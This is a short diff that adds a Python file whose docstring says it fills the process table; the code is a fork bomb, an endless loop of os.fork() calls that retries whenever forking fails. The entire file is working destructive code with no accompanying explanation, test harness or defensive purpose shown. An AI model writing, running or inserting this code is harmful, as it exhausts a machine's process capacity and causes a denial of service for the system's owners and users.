@@ -1,0 +1,9 @@
+"""Fills the process table, if it is let."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        continue
